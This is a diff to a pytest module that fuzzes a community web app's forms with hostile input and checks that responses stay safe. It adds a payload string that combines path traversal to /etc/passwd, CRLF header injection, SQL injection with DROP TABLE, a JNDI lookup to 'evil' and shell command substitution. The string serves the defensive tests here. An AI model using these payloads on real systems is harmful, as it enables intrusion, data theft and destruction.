@@ -6,13 +6,16 @@ seed; with ASSURE in the environment all of them.
 
 import os
 from urllib.parse import quote, urlencode, urlsplit
+from xml.etree.ElementTree import fromstring
 
 import pytest
 from bs4 import BeautifulSoup
+from markupsafe import escape
 
 from community.core.db import db
 from community.web.door import SAFE
 from tests import sampling
+from tests.assure import told
 from tests.client import forget
 from tests.privacy import stage
 from tests.privacy.everywhere import VALUES, addresses, come, send
@@ -22,6 +25,11 @@ RESULT = str(7777 * 7777)
 STRINGS = {
     "markup, formulas, wildcards": f"=A1%_\\\u202e\U0001f9f6\u0301 OR 1=1 --{MARK}",
     "a sign that no text may hold": "a\0b",
+    "paths, headers, questions of databases": (
+        "../../../../etc/passwd\r\nSet-Cookie: stolen=1\r\n\r\n%0d%0aX-Stolen: 1"
+        '\'; DROP TABLE member; -- " OR NEAR("*" AND ( ${jndi:ldap://evil} `id` $(id)'
+        f" <!--<![CDATA[{MARK}"
+    ),
     "very long": "long " * 5_000,
     "a huge number": "9" * 40,
 }
@@ -35,6 +43,8 @@ ASKED = """
 """
 NUMBERS = [name for name in VALUES if name.endswith("_id")]
 WHOLE = bool(os.environ.get("ASSURE"))
+STAFF = ("olu", "ada") if WHOLE else ()
+"""Who sends every form that they can open as well, in a full run."""
 
 
 @pytest.fixture
@@ -64,14 +74,41 @@ def some(request):
     return turn
 
 
+MARKED = ("text/html", "image/svg+xml", "application/atom+xml", "application/xml")
+
+
 def fine(response, what):
-    """Check that an answer is no breakdown, and that nothing in it runs."""
+    """Check that an answer is no breakdown, and that nothing in it runs.
+
+    A page is read as a browser reads it: no element came of what was typed.
+    """
     not_ready = response.request.path == "/readyz"  # 503 says that no worker runs
     assert response.status_code < 500 or not_ready, what
-    if response.mimetype == "text/html":
-        text = response.get_data(as_text=True)
-        assert "id=hostile" not in text.replace("&gt;&lt;b id=hostile", ""), what
-        assert RESULT not in text, what
+    assert "X-Stolen" not in response.headers, what
+    cookies = response.headers.getlist("Set-Cookie")
+    assert not [one for one in cookies if "stolen" in one], what
+    text = response.get_data(as_text=True) if response.mimetype in MARKED else ""
+    assert RESULT not in text, what
+    if "hostile" in text:
+        assert not elements(text, "xml" in response.mimetype), what
+
+
+def elements(text, is_xml):
+    """Return the elements of a page that came of the mark."""
+    if is_xml:
+        return [one for one in fromstring(text).iter() if one.get("id") == "hostile"]
+    return BeautifulSoup(text, "html.parser").select("[id^=hostile]")
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        (f"<p>{MARK}</p>", 1), (f"<p title=\"{MARK}\">", 1), (f"<!-- --!>{MARK}", 1),
+        (f"<p>{escape(MARK)}</p>", 0), (f"<p title=\"{escape(MARK)}\">", 0),
+    ],
+)  # fmt: skip
+def test_an_element_that_came_of_words_is_seen(text, found):
+    assert len(elements(text, False)) == found
 
 
 @pytest.mark.parametrize("kind", STRINGS)
@@ -145,13 +182,14 @@ def _read_forms(app, reader):
     for address in addresses(app):
         if address.method not in SAFE or address.path.startswith("/api/"):
             continue
-        response = reader(address.who).get(address.path)
-        if response.mimetype != "text/html":
-            continue
-        soup = BeautifulSoup(response.get_data(as_text=True), "html.parser")
-        for form in soup.select("form[method=post]"):
-            where = form.get("action") or address.path
-            found[address.who, where] = dict(fields(form))
+        for who in {address.who, *STAFF}:
+            response = reader(who).get(address.path)
+            if response.mimetype != "text/html" or response.status_code != 200:
+                continue
+            soup = BeautifulSoup(response.get_data(as_text=True), "html.parser")
+            for form in soup.select("form[method=post]"):
+                where = form.get("action") or address.path
+                found[who, where] = dict(fields(form))
     return {key: given for key, given in found.items() if "/sign-out" not in key[1]}
 
 
@@ -177,11 +215,13 @@ def post(visitor, where, data):
 @pytest.mark.parametrize("kind", STRINGS)
 def test_any_words_in_any_form_are_harmless(app, reader, some, kind):
     words = STRINGS[kind]
-    sent = some(kind, forms(app, reader).items())
-    for (who, where), given in sampling.some(sent, 2, kind):
+    sent = sampling.some(some(kind, forms(app, reader).items()), 2, kind)
+    for (who, where), given in sent:
         typed = {name: words if was is None else was for name, was in given.items()}
         fine(post(reader(who), where, typed), (who, where))
         fine(post(reader(who), where, dict.fromkeys(given, words)), (who, where))
+    fields = sum(len(given) for _of, given in sent)
+    told(f"hostile words in forms: {kind}", size=len(sent), fields=fields, failures=0)
 
 
 def test_what_was_stored_is_shown_as_words_on_every_page(app):
